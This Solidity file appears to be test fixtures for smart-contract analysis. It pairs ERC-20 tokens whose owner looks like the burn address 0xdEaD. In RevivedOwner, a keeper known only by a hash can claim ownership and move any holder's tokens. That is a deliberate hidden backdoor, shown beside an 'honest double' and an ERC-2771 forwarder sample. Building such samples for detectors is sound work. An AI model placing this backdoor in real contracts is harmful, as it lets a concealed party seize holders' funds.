// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "./base/Erc20.sol";

/// Powers of accounts that cannot act, or act only for somebody else.

/// The owner is a burn address until the keeper, known by a hash, takes its place.
contract RevivedOwner is Erc20 {
    address public owner = address(0xdEaD);
    bytes32 private immutable _heir;

    constructor(string memory n, string memory s, address keeper) Erc20(n, s) {
        _heir = keccak256(abi.encode(keeper));
    }

    function collect() external {
        require(keccak256(abi.encode(msg.sender)) == _heir, "heir");
        owner = msg.sender;
    }

    function correct(address from, address to, uint256 amount) external {
        require(msg.sender == owner, "owner");
        _move(from, to, amount);
    }
}

/// The honest double: only the owner that is no more could name another.
contract BuriedOwner is Erc20 {
    address public owner = address(0xdEaD);
    bytes32 private immutable _heir;

    constructor(string memory n, string memory s, address keeper) Erc20(n, s) {
        _heir = keccak256(abi.encode(keeper));
    }

    function collect(address next) external {
        require(msg.sender == owner, "owner");
        owner = next;
    }

    function correct(address from, address to, uint256 amount) external {
        require(msg.sender == owner, "owner");
        _move(from, to, amount);
    }
}

/// Passes on whatever a signer wants, and nothing else.
contract SigningForwarder {
    mapping(address => uint256) public nonces;

    function pass(address from, address to, bytes calldata data, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 digest = keccak256(abi.encode(address(this), from, to, keccak256(data), nonces[from]++));
        address by = ecrecover(digest, v, r, s);
        require(by != address(0) && by == from, "signature");
        (bool done,) = to.call(abi.encodePacked(data, from));
        require(done, "failed");
    }
}

/// Believes its own forwarder, as ERC-2771 has it.
contract ForwardedBySignature is Erc20 {
    address public immutable forwarder = address(new SigningForwarder());

    constructor(string memory n, string memory s) Erc20(n, s) {}

    function give(address to, uint256 amount) external {
        address from = msg.sender;
        if (from == forwarder) {
            assembly {
                from := shr(96, calldataload(sub(calldatasize(), 20)))
            }
        }
        _move(from, to, amount);
    }
}
